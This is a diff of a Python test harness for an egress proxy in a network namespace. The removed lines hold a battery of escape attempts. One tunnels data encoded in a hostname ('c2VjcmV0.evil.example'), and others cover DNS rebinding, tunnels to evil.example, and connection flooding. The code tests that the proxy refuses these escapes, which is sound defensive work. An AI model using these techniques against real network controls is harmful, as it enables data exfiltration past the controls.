@@ -1,37 +1,29 @@
-"""The battery of escapes against the egress proxy, in a network namespace of its own. One process is everything:
+"""The egress proxy in a network namespace of its own, for programs that try it. One process is everything:
 
 - pods, which are source addresses;
 - an internet: servers on public, private and special addresses, which answer for every name;
 - the egress proxy, as the product runs it, except for the feed and DNS, which are dictionaries here.
 
-`run` starts it, and returns what each attempt saw.
+`in_namespace` starts such a program; `battery.py` makes attempts at an escape.
 """
 
 import asyncio
-import contextlib
 import ipaddress
 import json
 import os
 import shlex
-import socket
-import ssl
 import subprocess
 import sys
 import tempfile
 import threading
 import time
-from collections.abc import Callable
-from concurrent.futures import ThreadPoolExecutor
-from dataclasses import replace
 from pathlib import Path
 from typing import NoReturn
 
-from tests.support.egress_proxy import attempts as attempts_of_pods
 from tests.support.egress_proxy.attempts import (
     ANY,
     BLOCKED,
     COURSE,
-    LAB,
     LISTED,
     LISTED_HOSTS,
     OWN,
@@ -39,27 +31,14 @@ from tests.support.egress_proxy.attempts import (
     PRIVATE,
     PUBLIC,
     PUBLIC6,
-    REBINDING,
     SIX,
     STRANGER,
     TWICE,
-    Attempt,
     Pod,
-    act,
     addresses,
-    attempts,
-    connect,
-    get,
-    open_tunnel,
-    plain,
-    rebinding,
-    receive,
-    tunnel,
 )
-from tests.support.egress_proxy.hellos import hello_for
 from tests.support.egress_proxy.internet import CANARIES, start_internet
 from verifier.networks import NetworkSet
-from verifier.proxy import connections as proxy_connections
 from verifier.proxy.connections import Proxy
 from verifier.proxy.decide import Policy, TierHosts
 from verifier.proxy.hosts import HostList
@@ -178,119 +157,6 @@ class Lab:
         asyncio.run_coroutine_threadsafe(apply(), self.loop).result()
 
 
-def one_after_the_other() -> list[Attempt]:
-    """The attempts that change something, or use something up."""
-
-    def rebound(lab: Lab) -> str:
-        def wait() -> None:
-            lab.later += 60
-
-        return rebinding(PODS[ANY], wait)
-
-    def unasked(lab: Lab) -> str:
-        """Refused by its name, before the address is looked up."""
-        seen = tunnel(PODS[LISTED], "c2VjcmV0.evil.example:443", "x")
-        return f"{seen}, {'REACHED DNS' if 'c2VjcmV0.evil.example' in lab.asked else 'DNS was not asked'}"
-
-    def grant(lab: Lab) -> str:
-        lab.publish("cut", CUT, "unverified")
-        before = tunnel(CUT, "evil.example:443", "evil.example")
-        lab.publish("cut", CUT, "full")
-        first = "REACHED before" if "ServerHello" in before else "first refused"
-        return f"{first}, then {tunnel(CUT, 'evil.example:443', 'evil.example')}"
-
-    def endless(pod: Pod) -> tuple[socket.socket, socket.socket]:
-        """A download with TLS, and one with plain HTTP."""
-        context = ssl._create_unverified_context()
-        connection, _ = open_tunnel(pod, "evil.example:443")
-        secure = context.wrap_socket(connection, server_hostname="evil.example")
-        secure.sendall(b"GET /endless HTTP/1.1\r\nHost: evil.example\r\n\r\n")
-        clear = connect(pod)
-        clear.sendall(get("http://evil.example/endless").encode())
-        assert secure.recv(1) and clear.recv(1)
-        return secure, clear
-
-    def seconds_to_end(connection: socket.socket) -> float:
-        began = time.monotonic()
-        connection.settimeout(WAIT_SECONDS)
-        with contextlib.suppress(OSError):
-            while time.monotonic() - began < WAIT_SECONDS and connection.recv(1 << 20):
-                pass
-        return time.monotonic() - began
-
-    def cut(change: Callable[[Lab], None]) -> Callable[[Lab], str]:
-        def changed(lab: Lab) -> str:
-            lab.publish("cut", CUT, "full")
-            ending, living = endless(CUT), endless(PODS[ANY])
-            idle, _ = open_tunnel(CUT, "evil.example:443")
-            silent, _ = open_tunnel(CUT, "evil.example:443", hello_for("evil.example"))
-            time.sleep(0.1)
-            change(lab)
-            took = [seconds_to_end(one) for one in (*ending, idle, silent)]
-            alive = all(one.recv(1) for one in living)
-            for one in (*ending, *living, idle, silent):
-                one.close()
-            lab.publish("cut", CUT, "full")
-            ended = "cut" if max(took) < WAIT_SECONDS else "REACHED"
-            return f"{'others live' if alive else 'REACHED: others ended'}, {ended} after {took}"
-
-        return changed
-
-    def kept(lab: Lab) -> str:
-        """A tunnel to a host of both tiers stays open."""
-        lab.publish("cut", CUT, "full")
-        context = ssl._create_unverified_context()
-        connection, _ = open_tunnel(CUT, "ok.example:443")
-        secure = context.wrap_socket(connection, server_hostname="ok.example")
-        lab.publish("cut", CUT, "unverified")
-        time.sleep(0.1)
-        secure.sendall(b"GET / HTTP/1.1\r\nHost: ok.example\r\nConnection: close\r\n\r\n")
-        with secure:
-            return receive(secure)
-
-    def crowd(lab: Lab) -> str:
-        """One pod holds as many connections as allowed; another pod still works."""
-        while lab.proxy.open:
-            time.sleep(0.05)
-        held = [connect(CUT) for _ in range(70)]
-        time.sleep(0.3)
-        line = plain(CUT, get("http://ok.example/"))
-        other = plain(PODS[LISTED], get("http://ok.example/"))
-        for one in held:
-            one.close()
-        return f"{line} and {other}"
-
-    again, change, limit = (
-        "an address used again at once",
-        "what a change no longer allows goes on",
-        "more connections than the limit",
-    )
-    living = "others live, cut"
-    found = [
-        Attempt(REBINDING, "a public and a private address in turn", rebound, reaches="both answers"),
-        Attempt("data in names that are not listed", "CONNECT", unasked, reaches="DNS was not asked"),
-        Attempt(change, "a grant opens", grant, reaches="first refused, then ServerHello"),
-        Attempt(change, "revoked", cut(lambda lab: lab.publish("cut", CUT, "unverified")), reaches=living),
-        Attempt(change, "blocked", cut(lambda lab: lab.publish("cut", CUT, "unverified", True)), reaches=living),
-        Attempt(change, "the pod ends", cut(lambda lab: lab.publish("cut", CUT, "")), reaches=living),
-        Attempt(again, "by the next pod", cut(lambda lab: lab.publish("x", CUT, "full")), reaches=living),
-        Attempt(again, "and free again", lambda lab: (lab.publish("x", CUT, ""), kept(lab))[1], reaches="REACHED host=ok"),
-        Attempt(limit, "by one pod", crowd, reaches="HTTP/1.1 429 "),
-        Attempt(limit, "another pod meanwhile", crowd, reaches="and HTTP/1.1 200 OK | REACHED host=ok.example"),
-    ]
-    return [replace(attempt, where=(LAB,)) for attempt in found]
-
-
-def made() -> list[Attempt]:
-    """All attempts that are made here."""
-    return [attempt for attempt in (*attempts(), *one_after_the_other()) if LAB in attempt.where]
-
-
-def run() -> dict[str, list]:
-    """Run the battery. Returns attempt → [whether it ended as it must, what was seen]."""
-    return in_namespace(__spec__.name)
-
-
 def in_namespace(module: str, *arguments: str, resolver: str = "") -> dict:
     """Run a program in a new network namespace with the lab's addresses, and return the JSON that it prints.
 
@@ -326,26 +192,3 @@ def begin(folder: Path) -> Lab:
     """In the namespace: start the internet and the proxy."""
     start_internet(folder, (*PUBLIC, PUBLIC6, OWN, *CANARIES, "127.0.0.1", "::1"))
     return Lab()
-
-
-def main() -> None:
-    """In the namespace: make all attempts, and print the results."""
-    # All of this is on one machine, which may be slow. Late answers must not count as missing.
-    attempts_of_pods.answer_seconds = WAIT_SECONDS
-    proxy_connections.HELLO_SECONDS = 3.0
-    proxy_connections.LINGER_SECONDS = 0.2
-    with tempfile.TemporaryDirectory() as folder:
-        lab = begin(Path(folder))
-    side_by_side = [attempt for attempt in attempts() if LAB in attempt.where]
-    with ThreadPoolExecutor(8) as pool:
-        seen = pool.map(lambda attempt: act(attempt, PODS[attempt.pod]), side_by_side)
-        found = dict(zip((attempt.id for attempt in side_by_side), seen, strict=True))
-    # A tunnel without a ClientHello must not end by itself before the test looks at it.
-    proxy_connections.HELLO_SECONDS = 4 * WAIT_SECONDS
-    for attempt in one_after_the_other():
-        found[attempt.id] = act(attempt, lab)
-    end(found)
-
-
-if __name__ == "__main__":
-    main()
